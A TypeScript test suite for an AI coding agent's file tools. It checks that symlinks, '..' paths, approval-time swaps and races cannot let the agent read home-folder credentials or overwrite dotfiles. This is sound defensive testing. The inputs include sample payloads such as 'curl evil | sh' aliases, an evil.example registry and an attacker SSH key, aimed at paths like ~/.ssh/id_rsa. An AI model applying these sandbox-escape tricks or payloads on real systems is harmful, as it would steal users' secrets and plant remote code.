import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import type * as acp from '@agentclientprotocol/sdk';
import { PermissionGate, type PermissionRequest } from '../../agent-server/permissions/gate.js';
import type { SessionMode } from '../../agent-server/permissions/policy.js';
import { MemoryPermissionRules } from '../../agent-server/runtime/permission-rules.js';
import type { AnyTool, ToolContext } from '../../agent-server/tools/types.js';
import { readFileTool } from '../../agent-server/tools/read-file.js';
import { writeFileTool } from '../../agent-server/tools/write-file.js';
import { editFileTool } from '../../agent-server/tools/edit-file.js';
import { DiskWorkspace } from '../../agent-server/workspace/disk-workspace.js';
import { PathPolicy } from '../../agent-server/workspace/paths.js';
import type { Workspace } from '../../agent-server/workspace/workspace.js';
import { ClientWorkspace } from '../../agent-server/acp/client-workspace.js';
import { createHostileSetup, type HostileSetup } from './hostile-home.js';
import { snapshot, startFlipper } from './home-watch.js';

/**
 * Class 1 of issue 10: paths checked once and used later by name. Every attempt drives the real
 * file tools through a real PermissionGate over a hostile repository whose symlinks point into a
 * fake home full of credentials, and asserts no secret reaches the model and the home is unchanged.
 */

type Ask = (req: PermissionRequest) => Promise<void> | void;

interface Attack {
  s: HostileSetup;
  ctx: ToolContext;
  /** Runs a tool; a refusal (thrown error) becomes its message, as the model would see it. */
  run(tool: AnyTool, input: Record<string, unknown>): Promise<string>;
  /** Path inside the repo. */
  repo(rel: string): string;
  home(rel: string): string;
  link(target: string, at: string): Promise<void>;
}

async function attack(
  name: string,
  opts: { mode?: SessionMode; onAsk?: Ask; workspace?: (paths: PathPolicy) => Workspace } = {},
): Promise<Attack> {
  const s = await createHostileSetup(`paths-${name}`);
  const paths = new PathPolicy(s.workspace);
  const gate = new PermissionGate(
    () => opts.mode ?? 'auto',
    {
      ask: async (req) => {
        await opts.onAsk?.(req);
        return 'allow_once';
      },
    },
    new MemoryPermissionRules(),
  );
  const ctx: ToolContext = {
    sessionId: 'attack',
    toolCallId: 'call_1',
    workspace: opts.workspace?.(paths) ?? new DiskWorkspace(paths),
    permissions: gate,
    signal: new AbortController().signal,
    progress: () => undefined,
    terminal: undefined as never,
  };
  const repo = (rel: string) => path.join(s.workspace, rel);
  return {
    s,
    ctx,
    repo,
    home: (rel) => path.join(s.home, rel),
    run: async (tool, input) => {
      try {
        return (await tool.run(input, ctx)).forModel;
      } catch (err) {
        return `ERROR: ${(err as Error).message}`;
      }
    },
    link: async (target, at) => {
      await fs.mkdir(path.dirname(repo(at)), { recursive: true });
      await fs.symlink(target, repo(at));
    },
  };
}

/** Runs `body` and asserts the home is exactly as before and the secret never reached the model. */
async function attempt(a: Attack, body: () => Promise<string | string[]>): Promise<string[]> {
  const before = await snapshot(a.s.home);
  try {
    const raw = await body();
    const outputs = Array.isArray(raw) ? raw : [raw];
    for (const out of outputs) assert.ok(!out.includes(a.s.secret), `the secret reached the model: ${out}`);
    assert.deepEqual(await snapshot(a.s.home), before, 'the home folder changed');
    return outputs;
  } finally {
    await a.s.cleanup();
  }
}

const read = (p: string) => [readFileTool, { path: p }] as const;
const write = (p: string, content = 'PWNED\n') => [writeFileTool, { path: p, content }] as const;

// ── Links in the repository pointing into the home ─────────────────────────────

test('attack paths.1: write_file through a dangling symlink (docs/CHANGELOG.md -> ~/.bash_aliases)', async () => {
  const a = await attack('1');
  await a.link(a.home('.bash_aliases'), 'docs/CHANGELOG.md');
  const [out] = await attempt(a, () => a.run(...write('docs/CHANGELOG.md', 'alias ls="curl evil|sh"\n')));
  assert.match(out!, /outside the workspace/);
});

test('attack paths.2: edit_file through a dangling symlink to a missing home file', async () => {
  const a = await attack('2');
  await a.link(a.home('.config/autostart/x.desktop'), 'notes.md');
  await attempt(a, () => a.run(editFileTool, { path: 'notes.md', old_string: 'a', new_string: 'b' }));
});

test('attack paths.3: write_file through a symlink to an existing ~/.npmrc', async () => {
  const a = await attack('3');
  await a.link(a.home('.npmrc'), '.npmrc');
  await attempt(a, () => a.run(...write('.npmrc', 'registry=https://evil.example/\n')));
});

test('attack paths.4: edit_file through a symlink to ~/.aws/credentials', async () => {
  const a = await attack('4');
  await a.link(a.home('.aws/credentials'), 'config/aws.ini');
  await attempt(a, () =>
    a.run(editFileTool, { path: 'config/aws.ini', old_string: 'SECRET', new_string: 'X' }),
  );
});

test('attack paths.5: read_file through a symlink to ~/.ssh/id_rsa (plan mode)', async () => {
  const a = await attack('5', { mode: 'plan' });
  await a.link(a.home('.ssh/id_rsa'), 'docs/key.txt');
  await attempt(a, () => a.run(...read('docs/key.txt')));
});

test('attack paths.6: read_file through a symlinked parent folder (keys -> ~/.ssh)', async () => {
  const a = await attack('6', { mode: 'plan' });
  await a.link(a.home('.ssh'), 'keys');
  await attempt(a, () => a.run(...read('keys/id_rsa')));
});

test('attack paths.7: write_file into a symlinked parent (conf -> ~/.config), replacing gh tokens', async () => {
  const a = await attack('7');
  await a.link(a.home('.config'), 'conf');
  await attempt(a, () => a.run(...write('conf/gh/hosts.yml')));
});

test('attack paths.8: write_file creating a new file under a parent linked to the home root', async () => {
  const a = await attack('8');
  await a.link(a.s.home, 'h');
  await attempt(a, () =>
    Promise.all([a.run(...write('h/.bash_aliases')), a.run(...write('h/.ssh/authorized_keys'))]),
  );
});

// ── `..` and absolute paths ─────────────────────────────────────────────────────

test('attack paths.9: read_file with .. out of the repo to the home', async () => {
  const a = await attack('9', { mode: 'plan' });
  await attempt(a, () => a.run(...read('../home/.ssh/id_rsa')));
});

test('attack paths.10: write_file with .. out of the repo to ~/.bashrc', async () => {
  const a = await attack('10');
  await attempt(a, () => a.run(...write('../home/.bashrc')));
});

test('attack paths.11: read_file with an absolute path to a home credential', async () => {
  const a = await attack('11', { mode: 'plan' });
  await attempt(a, () => a.run(...read(a.home('.ssh/id_ed25519'))));
});

test('attack paths.12: write_file with an absolute path to ~/.profile', async () => {
  const a = await attack('12');
  await attempt(a, () => a.run(...write(a.home('.profile'))));
});

test('attack paths.13: .. hidden in the middle of a path (src/../../home/.netrc)', async () => {
  const a = await attack('13', { mode: 'plan' });
  await fs.mkdir(a.repo('src'));
  await attempt(a, () => a.run(...read('src/../../home/.netrc')));
});

test('attack paths.14: doubled slashes and ./ around a symlinked folder (keys//./id_rsa)', async () => {
  const a = await attack('14', { mode: 'plan' });
  await a.link(a.home('.ssh'), 'keys');
  await attempt(a, () =>
    Promise.all([a.run(...read('keys//./id_rsa')), a.run(...read('./keys/../keys/id_rsa'))]),
  );
});

// ── Hard-to-spot links ───────────────────────────────────────────────────────────

test('attack paths.15: a symlink in the middle of a deep path (a/b -> ~/.kube, read a/b/config)', async () => {
  const a = await attack('15', { mode: 'plan' });
  await fs.mkdir(a.repo('a/real'), { recursive: true });
  await a.link(a.home('.kube'), 'a/b');
  await attempt(a, () => a.run(...read('a/b/config')));
});

test('attack paths.16: a chain of symlinks inside the repo whose last hop leads home', async () => {
  const a = await attack('16', { mode: 'plan' });
  await a.link(a.home('.ssh/id_rsa'), 'l3');
  await a.link('l3', 'sub/l2');
  await a.link('sub/l2', 'l1');
  await attempt(a, () => a.run(...read('l1')));
});

test('attack paths.17: write through a symlink to a symlink to a dangling home path', async () => {
  const a = await attack('17');
  await a.link(a.home('.bash_logout'), 'deep/x/last');
  await a.link('deep/x/last', 'middle');
  await a.link('middle', 'first.txt');
  await attempt(a, () => a.run(...write('first.txt')));
});

test('attack paths.18: a relative symlink that climbs out with .. (docs/x -> ../../home/.pypirc)', async () => {
  const a = await attack('18', { mode: 'plan' });
  await a.link('../../home/.pypirc', 'docs/x');
  await attempt(a, () => a.run(...read('docs/x')));
});

test('attack paths.19: a dangling relative link to a missing folder in the home, then a write below it', async () => {
  const a = await attack('19');
  await a.link('../home/.cache-new', 'cache');
  await attempt(a, () => a.run(...write('cache/sub/planted.sh')));
});

test('attack paths.20: symlink loops do not hang and do not resolve to anything', async () => {
  const a = await attack('20', { mode: 'plan' });
  await a.link('loop-b', 'loop-a');
  await a.link('loop-a', 'loop-b');
  await a.link('self', 'self');
  const outs = await attempt(a, () => Promise.all([a.run(...read('loop-a')), a.run(...read('self/x'))]));
  for (const out of outs) assert.match(out, /ERROR/);
});

test('attack paths.21: a final symlink to a home folder, written as a file', async () => {
  const a = await attack('21');
  await a.link(a.home('.ssh'), 'out');
  await attempt(a, () => a.run(...write('out')));
});

test('attack paths.22: a folder link that stays inside is followed, and its write stays inside', async () => {
  const a = await attack('22');
  await fs.mkdir(a.repo('real'));
  await a.link('real', 'alias');
  await attempt(a, () => a.run(...write('alias/file.txt', 'ok\n')));
  // (cleanup ran; the write itself is checked by the unit tests: here only the home matters)
});

// ── Swap after approval ──────────────────────────────────────────────────────────

/** Replaces a repo folder with a symlink to `target`, as a background process would. */
async function swapForLink(folder: string, target: string): Promise<void> {
  await fs.rm(folder, { recursive: true, force: true });
  await fs.symlink(target, folder);
}

test('attack paths.23: write_file approved, then its parent swapped for a link to ~ before the answer', async () => {
  let a: Attack | undefined;
  a = await attack('23', {
    mode: 'ask',
    onAsk: () => swapForLink(a!.repo('build'), a!.s.home),
  });
  await fs.mkdir(a.repo('build'));
  const [out] = await attempt(a, () => a!.run(...write('build/.bash_aliases')));
  assert.match(out!, /NOT changed/);
});

test('attack paths.24: edit_file approved, then its parent swapped for a link to ~/.ssh', async () => {
  let a: Attack | undefined;
  a = await attack('24', { mode: 'ask', onAsk: () => swapForLink(a!.repo('cfg'), a!.home('.ssh')) });
  await fs.mkdir(a.repo('cfg'));
  await fs.writeFile(a.repo('cfg/id_rsa'), 'placeholder\n');
  const [out] = await attempt(a, () =>
    a!.run(editFileTool, { path: 'cfg/id_rsa', old_string: 'placeholder', new_string: 'ssh-rsa EVIL' }),
  );
  assert.match(out!, /NOT changed/);
});

test('attack paths.25: write_file approved, then the file itself swapped for a dangling link home', async () => {
  let a: Attack | undefined;
  a = await attack('25', {
    mode: 'ask',
    onAsk: async () => {
      await fs.rm(a!.repo('run.sh'));
      await fs.symlink(a!.home('.bash_login'), a!.repo('run.sh'));
    },
  });
  await fs.writeFile(a.repo('run.sh'), 'echo hi\n');
  await attempt(a, () => a!.run(...write('run.sh', 'curl evil | sh\n')));
});

// ── The editor (ACP client fs) path ─────────────────────────────────────────────

/** A fake editor that, like a real one, opens whatever path it is given (following links). */
function fakeEditor() {
  const calls: { method: string; path: string; linkedAtCall: boolean }[] = [];
  const hasLink = async (p: string): Promise<boolean> => {
    for (let cur = p; cur !== path.dirname(cur); cur = path.dirname(cur)) {
      if (
        await fs.lstat(cur).then(
          (st) => st.isSymbolicLink(),
          () => false,
        )
      )
        return true;
    }
    return false;
  };
  const client = {
    request: async (method: string, params: { path: string; content?: string }) => {
      calls.push({ method, path: params.path, linkedAtCall: await hasLink(params.path) });
      if (method === 'fs/write_text_file') {
        await fs.mkdir(path.dirname(params.path), { recursive: true });
        await fs.writeFile(params.path, params.content ?? '');
        return {};
      }
      return { content: await fs.readFile(params.path, 'utf8') };
    },
  } as unknown as acp.AgentContext;
  return { client, calls };
}

function clientAttack(name: string, opts: { mode?: SessionMode; onAsk?: Ask } = {}) {
  const editor = fakeEditor();
  const made = attack(name, {
    ...opts,
    workspace: (paths) => new ClientWorkspace(paths, editor.client, 'attack', { read: true, write: true }),
  });
  return made.then((a) => ({ a, calls: editor.calls }));
}

test('attack paths.26: editor writes — a dangling symlink is never handed to fs/write_text_file', async () => {
  const { a, calls } = await clientAttack('26');
  await a.link(a.home('.bash_aliases'), 'docs/CHANGELOG.md');
  await attempt(a, () => a.run(...write('docs/CHANGELOG.md')));
  assert.deepEqual(
    calls.filter((c) => c.method === 'fs/write_text_file'),
    [],
  );
});

test('attack paths.27: editor writes — approval then parent swapped to ~: nothing sent, nothing written', async () => {
  let a: Attack | undefined;
  const made = await clientAttack('27', { mode: 'ask', onAsk: () => swapForLink(a!.repo('src'), a!.s.home) });
  a = made.a;
  await fs.mkdir(a.repo('src'));
  await attempt(a, () => a!.run(...write('src/.profile')));
  assert.ok(
    made.calls.every((c) => !c.linkedAtCall),
    JSON.stringify(made.calls),
  );
  assert.deepEqual(
    made.calls.filter((c) => c.method === 'fs/write_text_file'),
    [],
  );
});

test('attack paths.28: editor writes — a link that stays inside is written on disk, not by the editor', async () => {
  const { a, calls } = await clientAttack('28');
  await fs.writeFile(a.repo('target.txt'), 'old\n');
  await a.link('target.txt', 'alias.txt');
  const target = a.repo('target.txt');
  await attempt(a, async () => {
    const out = await a.run(...write('alias.txt', 'new\n'));
    assert.equal(await fs.readFile(target, 'utf8'), 'new\n');
    return out;
  });
  assert.ok(
    calls.every((c) => !c.linkedAtCall),
    JSON.stringify(calls),
  );
});

test('attack paths.29: editor reads — a symlinked key and a symlinked parent are never asked of the editor', async () => {
  const { a, calls } = await clientAttack('29', { mode: 'plan' });
  await a.link(a.home('.ssh/id_rsa'), 'key.pem');
  await a.link(a.home('.aws'), 'aws');
  await attempt(a, () => Promise.all([a.run(...read('key.pem')), a.run(...read('aws/credentials'))]));
  assert.ok(
    calls.every((c) => !c.linkedAtCall),
    JSON.stringify(calls),
  );
});

// ── Races: a separate process flips a repo folder between real and a link home ────

/** Figures for the run's log: calls made, flips seen, calls refused. */
function summary(r: { outputs: string[]; flips: number }): string {
  const refused = r.outputs.filter((o) => o.startsWith('ERROR') || o.includes('NOT changed')).length;
  return `${r.outputs.length} calls, ${r.flips} flips, ${refused} refused`;
}

/** Runs `call` repeatedly while a flipper runs: at least `minCalls` times and about `ms` long. */
async function race(
  folder: string,
  target: string,
  call: () => Promise<string>,
  opts = { minCalls: 300, ms: 3500 },
): Promise<{ outputs: string[]; flips: number }> {
  const flipper = startFlipper(folder, target);
  const outputs: string[] = [];
  const started = Date.now();
  let flips = 0;
  try {
    while (outputs.length < opts.minCalls || Date.now() - started < opts.ms) outputs.push(await call());
  } finally {
    // Always stopped and waited for, so the folder is restored before the home is compared.
    flips = await flipper.stop();
  }
  return { outputs, flips };
}

test('attack paths.30: race — read_file in plan mode while d flips between a folder and ~/.ssh', async (t) => {
  const a = await attack('30', { mode: 'plan' });
  await fs.mkdir(a.repo('d'));
  await fs.writeFile(a.repo('d/id_rsa'), 'not a key, just a workspace file\n');
  let escapes = 0;
  let flips = 0;
  const outs = await attempt(a, async () => {
    const r = await race(a.repo('d'), a.home('.ssh'), () => a.run(...read('d/id_rsa')));
    flips = r.flips;
    t.diagnostic(summary(r));
    escapes = r.outputs.filter((o) => o.includes(a.s.secret)).length;
    return r.outputs;
  });
  assert.ok(flips > 0, 'the flipper ran');
  assert.equal(escapes, 0);
  assert.ok(
    outs.some((o) => o.includes('just a workspace file')),
    'reads still work between flips',
  );
});

test('attack paths.31: race — write_file in auto mode while d flips between a folder and ~', async (t) => {
  const a = await attack('31');
  await fs.mkdir(a.repo('d'));
  let flips = 0;
  await attempt(a, async () => {
    let n = 0;
    const r = await race(a.repo('d'), a.s.home, () => a.run(...write(`d/.bash_aliases`, `alias x=${n++}\n`)));
    flips = r.flips;
    t.diagnostic(summary(r));
    return r.outputs;
  });
  assert.ok(flips > 0, 'the flipper ran');
});

test('attack paths.32: race — write_file replacing d/id_rsa while d flips between a folder and ~/.ssh', async (t) => {
  const a = await attack('32');
  await fs.mkdir(a.repo('d'));
  await fs.writeFile(a.repo('d/id_rsa'), 'workspace file\n');
  let flips = 0;
  await attempt(a, async () => {
    const r = await race(a.repo('d'), a.home('.ssh'), () =>
      a.run(...write('d/id_rsa', 'ssh-rsa ATTACKER\n')),
    );
    flips = r.flips;
    t.diagnostic(summary(r));
    return r.outputs;
  });
  assert.ok(flips > 0, 'the flipper ran');
});

test('attack paths.33: race — edit_file reading and writing through a flipping middle folder', async (t) => {
  const a = await attack('33');
  await fs.mkdir(a.repo('x/d'), { recursive: true });
  // The home's credentials hold 'SECRET-…' too: an edit that escaped would change them.
  await fs.writeFile(a.repo('x/d/credentials'), 'SECRET-placeholder\n');
  let flips = 0;
  await attempt(a, async () => {
    const r = await race(
      a.repo('x/d'),
      a.home('.aws'),
      () => a.run(editFileTool, { path: 'x/d/credentials', old_string: 'SECRET-', new_string: 'SECRET_' }),
      { minCalls: 200, ms: 3000 },
    );
    flips = r.flips;
    t.diagnostic(summary(r));
    return r.outputs;
  });
  assert.ok(flips > 0, 'the flipper ran');
});
